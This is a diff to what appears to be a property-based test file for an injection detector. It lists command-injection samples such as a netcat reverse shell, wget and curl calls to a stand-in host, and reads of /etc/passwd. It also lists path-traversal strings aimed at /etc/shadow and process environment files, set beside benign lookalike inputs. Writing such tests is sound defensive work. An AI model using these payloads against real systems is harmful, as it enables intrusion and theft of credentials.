@@ -36,14 +36,14 @@ IN_SCRIPT = [
 ]  # fmt: skip
 COMMANDS = [
     "; cat /etc/passwd", "| whoami", "&& wget http://x.example/a.sh", "$(curl http://x.example)", "; nc -e /bin/sh 10.0.0.1 80",
-    "| powershell -enc AAAA", "& ping -n 5 127.0.0.1", "; python3 -c 'import os'", "; /bin/bash -i", "; chmod +x /tmp/a",
+    "| powershell -enc AAAA", "& ping -n 5 127.0.0.1", "FOR /L %a IN (1,1,5) DO calc", 'IF NOT "%1"=="x" calc', "; Get-Process | Out-File x", "; python3 -c 'import os'", "; /bin/bash -i", "; chmod +x /tmp/a",
 ]  # fmt: skip
 PATHS = ["../../../etc/passwd", "../../../../windows/win.ini", "/../../../etc/shadow", "../../../../proc/self/environ"]
 HONEST = [
     "Select one of the options from the list", "rock 'n' roll and blues", "drop the table by the window", "O'Brien",
     "union of two sets", "2 apples and pears < 4", "a <b and c> d", "cats & dogs", "what's new, and where?", "50% off; today only",
     "update your profile or delete it", "on = off", "x = y + 1", "the cat sat", "echo chamber", "price: 10 or 20",
-    "docs/guide/setup.md", "v1.2.3 -> v1.3.0", "sleep well", "(one) or (two)", "user@example.org", "Where is it from?",
+    "docs/guide/setup.md", "v1.2.3 -> v1.3.0", "sleep well", "restart-service", "if it is there then go on", "(one) or (two)", "user@example.org", "Where is it from?",
 ]  # fmt: skip
 
 CASE = st.randoms(use_true_random=False)
